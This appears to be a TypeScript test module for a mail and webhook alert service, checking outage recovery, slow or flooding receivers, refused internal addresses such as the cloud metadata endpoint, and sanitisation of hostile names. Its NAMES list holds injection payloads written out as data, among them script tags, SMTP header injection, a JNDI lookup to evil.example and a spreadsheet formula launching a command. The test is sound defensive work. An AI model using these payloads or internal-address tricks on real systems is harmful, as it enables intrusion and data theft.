/** Parts of the proof of alerts that need no other process: outage, hostile receivers, hostile names. */
import { message, outboxWorld, row } from '../test/world/outbox.ts'
import { mailbox, receiver } from '../test/world/receivers.ts'

const HOUR = 3_600_000

export type Say = (name: string, ok: boolean, figure: string) => void

/** Both sides are down for a day; every message arrives once after it. */
export async function outage(say: Say, messages: number): Promise<void> {
  const hook = await receiver()
  const box = await mailbox()
  box.mood = 'busy'
  hook.answer = (_, response) => void response.writeHead(503).end()
  const key = Buffer.alloc(32, 7).toString('base64')
  const it = outboxWorld(`
channels:
  mail: { kind: mail, host: 127.0.0.1, port: ${box.port}, tls: optional, from: 'Plumbline <drift@p.example>' }
  hook: { kind: webhook, url: '${hook.url}', secrets: ['${key}'], allow_private_network: true }
`)
  const { control } = it.world
  const began = it.clock.now()
  for (let i = 0; i < messages; i++)
    control.addOutbox([row(`m${i}`, 'mail'), row(`h${i}`, 'hook')].map((r) => ({ ...r, createdAt: began })))
  const open = () => control.outbox({ states: ['waiting', 'retry'], limit: messages * 2 })
  let back = false
  for (let turns = 0; open().length > 0 && turns < 200; turns++) {
    if (!back && it.clock.now() - began >= 24 * HOUR) {
      box.mood = 'accept'
      hook.answer = (_, response) => void response.writeHead(204).end()
      hook.taken.length = 0
      back = true
    }
    await it.courier.drainAll()
    const next = Math.min(...open().map((r) => r.nextAt))
    if (Number.isFinite(next)) it.clock.set(Math.max(it.clock.now() + 1, next))
  }
  const sent = control.outbox({ states: ['sent'], limit: messages * 2 + 1 }).length
  const ids = new Set((await box.read()).map((m) => m.messageId))
  const hooks = new Set(hook.taken.map((t) => t.headers['webhook-id']))
  const once = box.mails.length === ids.size && hook.taken.length === hooks.size
  say(
    'delivered after a 24 h outage of both',
    sent === messages * 2 && ids.size === messages && hooks.size === messages && once,
    `${sent} of ${messages * 2}, each once, ${((it.clock.now() - began) / HOUR).toFixed(1)} h on the clock`,
  )
  it.end()
  await box.close()
  await hook.close()
}

/** Receivers that hang, dribble, flood and point elsewhere: each costs its time limit, and nobody else waits for them. */
export async function hostile(say: Say): Promise<void> {
  const bad = await receiver()
  const inside = await receiver()
  const good = await receiver()
  let flooded = 0
  bad.answer = ({ path }, response) => {
    if (path === '/hang') return
    if (path === '/redirect') return void response.writeHead(307, { location: `${inside.url}/internal` }).end()
    response.writeHead(200)
    if (path === '/dribble') return void response.write('x')
    const flood = () => {
      for (let room = true; room && flooded < 1e9; flooded += 1 << 16) room = response.write(Buffer.alloc(1 << 16))
    }
    response.on('drain', flood)
    flood()
  }
  const key = Buffer.alloc(32, 7).toString('base64')
  const paths = ['hang', 'dribble', 'flood', 'redirect']
  const it = outboxWorld(`
channels:
${paths.map((p) => `  ${p}: { kind: webhook, url: '${bad.url}/${p}', secrets: ['${key}'], timeout: 15s, allow_private_network: true }`).join('\n')}
  metadata: { kind: webhook, url: 'http://169.254.169.254/latest', secrets: ['${key}'], allow_private_network: true }
  decimal: { kind: webhook, url: 'https://2130706433/', secrets: ['${key}'] }
  mapped: { kind: webhook, url: 'https://[::ffff:127.0.0.1]/', secrets: ['${key}'] }
  name: { kind: webhook, url: 'https://localhost./', secrets: ['${key}'] }
  good: { kind: webhook, url: '${good.url}', secrets: ['${key}'], allow_private_network: true }
`)
  const { control } = it.world
  const all = [...paths, 'metadata', 'decimal', 'mapped', 'name', 'good']
  control.addOutbox(all.map((c) => row(c, c)))
  const before = process.memoryUsage().rss
  const draining = it.courier.drainAll()
  while (control.outboxByDedupe('good')!.state !== 'sent') await new Promise((r) => setTimeout(r, 5))
  say(
    'a good receiver waits for no bad one',
    it.clock.now() === Date.parse('2026-11-20T12:00:00.000Z'),
    '0 s on the clock',
  )
  while (bad.taken.length < paths.length) await new Promise((r) => setTimeout(r, 5))
  await new Promise((r) => setTimeout(r, 50))
  await it.clock.turn(15_000)
  await draining
  const ms = (c: string) => control.deliveriesOf(control.outboxByDedupe(c)!.id)[0]!.ms
  const state = (c: string) => control.outboxByDedupe(c)!
  say(
    'a receiver that hangs or dribbles costs its time limit',
    ms('hang') === 15_000 && ms('dribble') === 15_000,
    '15 s each',
  )
  const grown = (process.memoryUsage().rss - before) / 1e6
  say(
    'a receiver that floods',
    flooded < 64e6 && grown < 200,
    `${(flooded / 1e6).toFixed(1)} MB left it, ${Math.max(0, grown).toFixed(0)} MB of memory here`,
  )
  say(
    'redirects to inside are not followed',
    inside.taken.length === 0 && state('redirect').state === 'retry',
    state('redirect').answer ?? '',
  )
  const refused = ['metadata', 'decimal', 'mapped', 'name'].filter(
    (c) => ['dead', 'retry'].includes(state(c).state) && /refused|reached/.test(state(c).answer ?? ''),
  )
  say('inner addresses are refused in every spelling', refused.length === 4, `${refused.length} of 4`)
  it.end()
  for (const r of [bad, inside, good]) await r.close()
}

const NAMES = [
  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
  '</title><svg/onload=alert(1)>',
  'Acme\r\nBcc: everybody@example.com',
  'Acme\n.\r\nMAIL FROM:<x@example.com>',
  'Acme\u0000AG',
  '\u202Egnp.exe',
  '\u2066\u2067Acme\u2069',
  '=cmd|"/c calc"!A1',
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  'javascript:alert(1)',
  'Acme <a href="http://evil.example">AG</a>',
  '&lt;b&gt;',
  '=?utf-8?B?QmNjOiB4QGV4YW1wbGUuY29t?=',
  'a'.repeat(5_000),
  '👩‍👩‍👧‍👦 Ünïcode 株式会社',
  '<!--[if mso]><p>x</p><![endif]-->',
  'http://evil.example/%0d%0aSet-Cookie:x',
]

/** Names that attack the mail: none leaves its place. */
export async function names(say: Say): Promise<void> {
  const box = await mailbox()
  const it = outboxWorld(`
channels:
  mail: { kind: mail, host: 127.0.0.1, port: ${box.port}, tls: optional, from: 'Plumbline <drift@p.example>' }
`)
  for (const [i, name] of NAMES.entries())
    it.world.control.addOutbox([
      row(`n${i}`, 'mail', {
        message: message({
          subject: name,
          title: name,
          preheader: name,
          lines: [name],
          tags: [name],
          facts: [{ name, value: name }],
          rows: [{ ref: name, title: name, detail: name, amount: name, url: name }],
          links: [{ label: name, url: name }],
          why: name,
          thread: name,
          list: name,
        }),
      }),
    ])
  await it.courier.drainAll()
  const mails = await box.read()
  const bad = mails.filter((m, i) => {
    const headers = m.headers.map((h) => h.key)
    const once = new Set(headers).size === headers.length
    return (
      box.mails[i]!.to.join() !== 'finance@example.com' ||
      headers.some((h) => ['bcc', 'cc', 'set-cookie'].includes(h)) ||
      !once ||
      /<(script|img|svg|iframe|object)|<[^>]*\son\w+\s*=|href="(?!https?:|#)/i.test(m.html!) ||
      /[\r\n\0\u202e\u2066]/.test(m.subject!)
    )
  })
  say(
    'hostile names leave no mark on a mail',
    mails.length === NAMES.length && bad.length === 0,
    `${NAMES.length} names, ${bad.length} got out of their place${bad.map((m) => ` ${JSON.stringify(m.subject?.slice(0, 40))}`).join(',')}`,
  )
  it.end()
  await box.close()
}
